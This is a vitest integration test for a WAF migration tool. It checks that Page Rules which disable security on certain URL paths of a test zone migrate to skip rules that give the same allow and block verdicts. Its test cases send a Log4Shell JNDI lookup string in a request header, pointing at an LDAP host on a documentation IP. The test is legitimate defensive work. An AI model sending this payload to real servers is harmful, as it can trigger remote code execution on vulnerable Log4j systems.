/**
 * A zone with Page Rules (disable security; Web Application Firewall off) migrates to equivalent
 * skip rules (seed 002), proven with the same `zonewall test --against-zone` cases before and after:
 * a Log4j probe is let through under the Page Rules' URL patterns and blocked elsewhere, first by the
 * previous WAF, then by the managed rulesets. The Page Rules come from the manifest's `page_rules`
 * (`zonewall apply`), the migration is the GitOps path (`migrate --write`, `apply`). The built CLI as
 * a child process on the embedded engine.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { workspace } from '../migrate/cli.js';

const CliTimeout = 240_000;
const ws = workspace('page-rules', (r, what) => expect(r.code, what).toBe(0));
const { dir, stateDir, run, ok } = ws;
afterAll(() => ws.remove());

const manifest = `zone: pages.test
plan: business
page_rules:
  images:
    url: "pages.test/images/*"
    disable_security: true
  legacy:
    url: "pages.test/legacy/*"
    waf: "off"
previous_waf:
  packages:
    owasp: { sensitivity: medium, action_mode: block }
`;

const cases = `zone: pages.test
defaults:
  request:
    host: pages.test
    headers: { User-Agent: Mozilla/5.0, X-Api-Version: "\${jndi:ldap://203.0.113.66/a}" }
cases:
  - name: a Log4j probe under the disable-security Page Rule goes through
    request: { path: /images/logo.png }
    expect: { allowed: true }
  - name: a Log4j probe under the WAF-off Page Rule goes through
    request: { path: /legacy/orders }
    expect: { allowed: true }
  - name: a Log4j probe elsewhere is blocked
    request: { path: /shop }
    expect: { action: block }
`;

describe('a Business zone with Page Rules', () => {
  it('keeps the same verdicts before and after the migration, through skip rules for the URL patterns', { timeout: CliTimeout }, async () => {
    const file = path.join(dir, 'pages.yaml');
    fs.writeFileSync(file, manifest);
    fs.writeFileSync(path.join(dir, 'pages.tests.yaml'), cases);
    await ok('engine', 'zone', 'create', 'pages.test', '--plan', 'business');
    const applied = await ok('apply', file, '--auto-approve');
    expect(applied).toContain('page_rule "images"');
    expect((await run('plan', file, '--detailed-exitcode')).code).toBe(0);

    const before = await run('test', file, '--against-zone');
    expect(before.code, `${before.stdout}\n${before.stderr}`).toBe(0);

    const dry = await ok('migrate', file, '--write');
    expect(dry).toMatch(/maps\s+Page Rule pages.test\/images\/\*/);
    expect(dry).toMatch(/maps\s+Page Rule pages.test\/legacy\/\*/);
    expect(parse(fs.readFileSync(file, 'utf8')).waf_migration).toBe('pending');
    await ok('apply', file, '--force', '--auto-approve');
    const status = JSON.parse(await ok('migrate', 'status', '--zone', 'pages.test', '--json'));
    expect(status.state).toBe('new_only');

    const after = await run('test', file, '--against-zone');
    expect(after.code, `${after.stdout}\n${after.stderr}`).toBe(0);
    expect((await run('plan', file, '--detailed-exitcode')).code).toBe(0);
  });
});
